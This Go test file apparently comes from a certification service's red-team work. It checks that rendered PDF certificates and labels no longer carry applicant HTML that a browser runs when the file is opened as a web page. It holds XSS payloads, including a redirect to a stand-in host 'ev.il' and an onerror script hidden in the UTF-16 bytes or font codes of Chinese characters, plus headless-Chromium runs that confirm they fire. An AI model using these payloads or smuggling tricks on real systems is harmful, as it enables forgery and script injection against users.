package labels

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chengdu-pcf/pcf/footprint/certification"
)

// rt83Payload is markup a browser runs: opened as a web page, the file
// goes to the forger's site. Nothing in it is a claim the certification
// checks refuse (read with certification.CheckPrintable on the demo study
// in product.model, product.name, product.site, product.manufacturer and a
// reason of a stage not applicable: all accepted).
const rt83Payload = "<svg/onload=location='//ev.il'>"

// rt83Signed is the format-4 demo certificate with markup in its product's
// model and English name, as the service issues it (CheckCertificate, the
// issue's check of what the documents print, accepts it), signed.
func rt83Signed(t *testing.T, edit func(c *certification.Certificate)) (*certification.SignedCertificate, []certification.PublicKey, string) {
	t.Helper()
	c := format4Certificate()
	edit(c)
	r := mustTestRenderer(t)
	if err := r.CheckCertificate(context.Background(), c); err != nil {
		t.Fatalf("the issue's check refused the certificate: %v", err)
	}
	return signedWithURL(t, c, "red team 83", time.Date(2026, 12, 7, 2, 0, 0, 0, time.UTC))
}

// Red team 83: the PDF read as a web page. The renderer wrote the page
// content uncompressed, its strings as they are: the codes of the text,
// with only \, ( and ) escaped. Applicant text with markup (the service
// accepts "<b>x</b>" and the like: red team 41 found the verification
// page escapes it) was written into the file as markup, so the genuine
// certificate and label, which `pcf verify` and VerifyPDF call genuine,
// are also HTML that runs the applicant's script once a browser opens the
// file as a web page: a forger names the file certificate.html, or serves
// its bytes as text/html from a look-alike host, and the reader who saved
// it and ran `pcf verify` on it reads GENUINE (and VALID with --server)
// for a file whose browser view is the forger's (another figure, another
// product, "valid" for a withdrawn certificate, or a redirect to its own
// "verification page"). The service's documents must not hold markup, and
// a document of an earlier layout whose text a browser runs must not
// verify.
func TestRedteam83_PDFReadAsAWebPage(t *testing.T) {
	r := mustTestRenderer(t)
	sc, keys, url := rt83Signed(t, func(c *certification.Certificate) {
		c.Product.Model = "EX" + rt83Payload
		c.Product.NameEN += " <style>*{visibility:hidden}</style>"
	})
	ctx := context.Background()
	cert, err := r.RenderCertificatePDF(ctx, sc, certification.CertificateValid, url)
	if err != nil {
		t.Fatal(err)
	}
	label, err := r.RenderLabelPDF(ctx, sc, url)
	if err != nil {
		t.Fatal(err)
	}
	for name, doc := range map[string][]byte{"certificate": cert, "label": label} {
		for _, markup := range []string{rt83Payload, "<style>"} {
			if bytes.Contains(doc, []byte(markup)) {
				t.Errorf("the service's %s holds the applicant's %q as it is: a browser opening the file runs it", name, markup)
			}
		}
		if rep, err := r.VerifyPDF(doc, keys); err != nil || !rep.OK() {
			t.Errorf("the service's %s does not verify: %v", name, err)
		}
	}

	// The forger renders the certificate and the label again from the
	// public signed envelope in layout 7, which wrote the text as it is.
	// The first markup of each: the certificate prints the English name
	// before the model, the label the model only.
	for kind, first := range map[string]string{kindCertificate: "<style>", kindLabel: rt83Payload} {
		old, _ := mustRenderDocument(t, r, sc, layoutV7, kind, url)
		if !bytes.Contains(old, []byte(rt83Payload)) {
			t.Fatalf("layout 7's %s does not hold the markup: the test does not show what it means to", kind)
		}
		rep, err := r.VerifyPDF(old, keys)
		if err == nil || rep.OK() {
			t.Errorf("layout 7's %s, whose text a browser runs as HTML, verifies as genuine", kind)
			continue
		}
		if msg := err.Error(); !strings.Contains(msg, "HTML") || !strings.Contains(msg, strconv.Quote(first)) {
			t.Errorf("layout 7's %s refused without naming the markup: %s", kind, msg)
		}
		if zh := rep.Lines(); !strings.Contains(zh[len(zh)-1].ZH+zh[0].ZH, "网页") {
			t.Errorf("no Chinese words for the markup: %+v", zh)
		}
	}
}

// Red team 83: markup in the codes of Chinese text. A document's
// characters beyond its first 129 other than ASCII are drawn in fonts
// whose codes run from 33 up in the order of the characters, so that a
// run of Chinese characters is written as bytes that can be any ASCII:
// chosen among the characters the certificate prints anyway, a product
// name of Chinese characters no check reads as markup is written as
// "<svg/onload=…>". Escaping markup in the applicant's ASCII text, or
// refusing it at issue, would not do: the renderer must escape the bytes
// it writes.
func TestRedteam83_MarkupInTheCodesOfChineseText(t *testing.T) {
	r := mustTestRenderer(t)
	sc0, _, url0 := rt83Signed(t, func(*certification.Certificate) {})
	_, d := mustRenderDocument(t, r, sc0, layoutV7, kindCertificate, url0)
	fonts := planFonts(d.usedRunes())
	if len(fonts) < 2 {
		t.Fatalf("the certificate uses %d fonts: the test needs a second", len(fonts))
	}
	var zh []rune
	for _, b := range []byte(rt83Payload) {
		rn := fonts[1].byCode[b]
		if rn == 0 || rn < 0x4e00 {
			t.Fatalf("code %d of the second font is %q: the test needs a Chinese character there", b, rn)
		}
		zh = append(zh, rn)
	}
	sc, keys, url := rt83Signed(t, func(c *certification.Certificate) { c.Product.NameZH = string(zh) + c.Product.NameZH })
	if _, d2 := mustRenderDocument(t, r, sc, layoutV7, kindCertificate, url); string(planFonts(d2.usedRunes())[1].runes) != string(fonts[1].runes) {
		t.Fatal("the product name changed the document's characters: the codes are not the ones chosen")
	}
	cert, err := r.RenderCertificatePDF(context.Background(), sc, certification.CertificateValid, url)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(cert, []byte(rt83Payload)) {
		t.Errorf("the service's certificate of the product %q holds %q: its Chinese name is written as markup a browser runs", string(zh), rt83Payload)
	}
	if rep, err := r.VerifyPDF(cert, keys); err != nil || !rep.OK() {
		t.Errorf("the service's certificate does not verify: %v", err)
	}
	old, _ := mustRenderDocument(t, r, sc, layoutV7, kindCertificate, url)
	if !bytes.Contains(old, []byte(rt83Payload)) {
		t.Fatalf("layout 7 does not write the name as %q: the test does not show what it means to", rt83Payload)
	}
	if rep, err := r.VerifyPDF(old, keys); err == nil || rep.OK() || !strings.Contains(err.Error(), "HTML") {
		t.Errorf("layout 7's certificate whose Chinese name a browser runs as HTML: %v", err)
	}
}

// rt83UTF16 returns the Chinese text whose UTF-16 is b (of even length,
// each pair a character from U+4E00 up: its first byte from N to ~).
func rt83UTF16(t *testing.T, b string) string {
	t.Helper()
	var zh []rune
	for i := 0; i+1 < len(b); i += 2 {
		r := rune(b[i])<<8 | rune(b[i+1])
		if r < 0x4e00 || r > 0x9fa5 {
			t.Fatalf("bytes %q make %U, not a Chinese character the font draws", b[i:i+2], r)
		}
		zh = append(zh, r)
	}
	return string(zh)
}

// rt83InfoPayload is markup in the UTF-16 of Chinese characters:
// "丼業朠獲挽砠潮敲牯爽瑯灛恣潮獯汥恝孠汯杠嵠景牧怠" is written in the document
// information as the bytes "N<img src=x onerror=top[`console`][`log`]`forg` ",
// and Chromium, opening the file as a page, logs "forg".
const rt83InfoPayload = "N<img src=x onerror=top[`console`][`log`]`forg` "

// Red team 83: markup in the document information. Its subject is the
// product's names and model, written (by gofpdf) in UTF-16, whose bytes
// for a Chinese character are one from N to ~ and any other: a product
// name of Chinese characters is "<img src=x onerror=…>" in the file, in
// the certificate and the label alike, even once the pages escape < and >.
func TestRedteam83_MarkupInTheDocumentInformation(t *testing.T) {
	r := mustTestRenderer(t)
	zh := rt83UTF16(t, rt83InfoPayload)
	sc, keys, url := rt83Signed(t, func(c *certification.Certificate) { c.Product.NameZH = zh + c.Product.NameZH })
	markup := []byte(rt83InfoPayload[1:])
	for _, kind := range []string{kindCertificate, kindLabel} {
		now, _ := mustRenderDocument(t, r, sc, layoutCurrent, kind, url)
		if bytes.Contains(now, markup) {
			t.Errorf("the service's %s of the product %q holds %q in its document information", kind, zh, markup)
		}
		if rep, err := r.VerifyPDF(now, keys); err != nil || !rep.OK() {
			t.Errorf("the service's %s does not verify: %v", kind, err)
		}
		old, _ := mustRenderDocument(t, r, sc, layoutV7, kind, url)
		if !bytes.Contains(old, markup) {
			t.Fatalf("layout 7's %s does not hold the markup: the test does not show what it means to", kind)
		}
		rep, err := r.VerifyPDF(old, keys)
		if err == nil || rep.OK() {
			t.Errorf("layout 7's %s, whose document information a browser runs as HTML, verifies as genuine", kind)
			continue
		}
		if msg := err.Error(); !strings.Contains(msg, "the document information holds") || !strings.Contains(msg, "<img src=x onerror=") {
			t.Errorf("layout 7's %s refused without naming the document information's markup: %s", kind, msg)
		}
	}
}

// Red team 83: what a browser does with the file. Run where Chromium is
// installed (skipped elsewhere): the genuine certificate of layout 7,
// named .html and opened, runs the applicant's script (its title set);
// the service's certificate of today runs nothing.
func TestRedteam83_BrowserOpensThePDFAsAPage(t *testing.T) {
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("chromium not installed")
	}
	if direct := "/usr/lib/chromium/chromium"; fileExists(direct) {
		chromium = direct // the launcher script of Debian's package fails under sh here
	}
	r := mustTestRenderer(t)
	const script = "<svg/onload=title=URL>" // the document's title becomes its address
	sc, _, url := rt83Signed(t, func(c *certification.Certificate) { c.Product.Model = "EX" + script })
	now, err := r.RenderCertificatePDF(context.Background(), sc, certification.CertificateValid, url)
	if err != nil {
		t.Fatal(err)
	}
	old, _ := mustRenderDocument(t, r, sc, layoutV7, kindCertificate, url)
	dir := t.TempDir()
	// open opens doc, saved as name, in the browser, with flags besides
	// the headless run's, and returns the page (the DOM) and the
	// browser's log.
	open := func(name string, doc []byte, flags ...string) (dom, log string) {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, doc, 0o644); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, chromium, append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"},
			append(flags, "--user-data-dir="+filepath.Join(dir, "profile-"+name), "--virtual-time-budget=2000", "--dump-dom", "file://"+path)...)...)
		var stdout, stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		if err := cmd.Run(); err != nil {
			t.Skipf("chromium: %v", err)
		}
		return stdout.String(), stderr.String()
	}
	title := func(name string, doc []byte) string {
		dom, _ := open(name, doc)
		return dom
	}
	if dom := title("layout7.html", old); !strings.Contains(dom, "<title>file://") {
		t.Fatalf("the browser ran nothing of layout 7's certificate: the test does not show what it means to (%d bytes of DOM)", len(dom))
	}
	if dom := title("today.html", now); strings.Contains(dom, "<title>file://") {
		t.Error("a browser opening the service's certificate as a web page runs the applicant's script")
	}

	// The document information: the console's log of the page.
	zh := rt83UTF16(t, rt83InfoPayload)
	sc, _, url = rt83Signed(t, func(c *certification.Certificate) { c.Product.NameZH = zh + c.Product.NameZH })
	logged := func(name string, doc []byte) bool {
		_, log := open(name, doc, "--enable-logging=stderr", "--v=0")
		return strings.Contains(log, `"forg"`)
	}
	old, _ = mustRenderDocument(t, r, sc, layoutV7, kindCertificate, url)
	if !logged("info7.html", old) {
		t.Fatal("the browser ran nothing of layout 7's document information: the test does not show what it means to")
	}
	now, _ = mustRenderDocument(t, r, sc, layoutCurrent, kindCertificate, url)
	if logged("info8.html", now) {
		t.Error("a browser opening the service's certificate as a web page runs the script of its document information")
	}
}

func fileExists(path string) bool {
	_, err := os.Stat(path)
	return err == nil
}

// Red team 83: a page of layout 8 holds neither < nor > in its content
// (the codes 60 and 62 of its fonts are written \074 and \076), where
// layout 7 wrote them as they are; the page draws and reads the same.
func TestRedteam83_Layout8ContentHoldsNoAngleBrackets(t *testing.T) {
	r := mustTestRenderer(t)
	sc, keys, url := rt83Signed(t, func(*certification.Certificate) {})
	for _, kind := range []string{kindCertificate, kindLabel} {
		contents := map[int][]byte{}
		texts := map[int][][]string{}
		for _, layout := range []int{layoutV7, layoutV8} {
			b, _ := mustRenderDocument(t, r, sc, layout, kind, url)
			f, pages := mustPageContents(t, b)
			contents[layout] = bytes.Join(pages, nil)
			strs, err := f.pageStrings()
			if err != nil {
				t.Fatal(err)
			}
			texts[layout] = strs
			if layout == layoutV8 {
				if rep, err := r.VerifyPDF(b, keys); err != nil || !rep.OK() {
					t.Errorf("%s of layout 8 does not verify: %v", kind, err)
				}
			}
		}
		if kind == kindCertificate && !bytes.ContainsAny(contents[layoutV7], "<>") { // a label's few characters fit its first font
			t.Errorf("the %s of layout 7 holds neither < nor >: the test does not show what it means to", kind)
		}
		if i := bytes.IndexAny(contents[layoutV8], "<>"); i >= 0 {
			t.Errorf("the %s of layout 8 holds %q in its page content", kind, contents[layoutV8][i:min(i+20, len(contents[layoutV8]))])
		}
		if fmt.Sprint(texts[layoutV7]) != fmt.Sprint(texts[layoutV8]) {
			t.Errorf("the %s of layout 8 reads otherwise than layout 7's", kind)
		}
	}
}

// Red team 83: the markup reader reads a file once. A hostile file of
// "<a " repeated (tags never closed), or "<a title='" (quotes never
// closed), took time in the square of its size when each < was read to
// the end of the file again (64 kB: 716 million bytes read, 50 s; 4 MB did
// not end in a minute); the tokenizer reads on after a tag. Counted, not
// timed: the bytes the reader looks at stay within a small multiple of
// the file's.
func TestRedteam83_MarkupReaderReadsAFileOnce(t *testing.T) {
	for _, unit := range []string{"<a ", "<a title='", "<a b=c ", "<!-", "<x\t"} {
		b := bytes.Repeat([]byte(unit), 64<<10/len(unit))
		tag, looked := readMarkup(b)
		if tag != "" {
			t.Errorf("%q repeated: %s, want no markup a browser acts on", unit, tag)
		}
		if looked > 3*len(b) {
			t.Errorf("%q repeated: %d bytes read for a file of %d", unit, looked, len(b))
		}
	}
}

// The markup reader reads a page's content and the document information,
// not the rest of the file: compressed streams and font programs are as
// good as random bytes, in which a tag stands by chance ("<h1 " in about
// one file of 550 of 100 kB of random bytes), so that reading them refused
// a genuine document now and then (red team 83's whole-file reading, not
// kept). A genuine certificate with "<h1 " written into a compressed
// stream has no markup in its pages or document information.
func TestMarkupInFile_BinaryIsNotRead(t *testing.T) {
	r := mustTestRenderer(t)
	sc, _, url := rt83Signed(t, func(*certification.Certificate) {})
	b, _ := mustRenderDocument(t, r, sc, layoutV8, kindCertificate, url)
	at := bytes.Index(b, []byte("/FlateDecode"))
	if at < 0 {
		t.Fatal("no compressed stream in the certificate")
	}
	data := at + bytes.Index(b[at:], []byte("stream\n")) + len("stream\n")
	b = bytes.Clone(b)
	copy(b[data+16:], "<h1 ")
	f, err := parsePDF(b)
	if err != nil {
		t.Fatal(err)
	}
	if page, tag := markupInFile(b, f); tag != "" {
		t.Errorf("markup %s found at page %d of a genuine certificate whose compressed stream holds it by chance", tag, page)
	}
	if tag := activeMarkup(b[data : data+32]); tag == "" {
		t.Error("the reader does not see <h1 in the stream: the test does not show what it means to")
	}
}
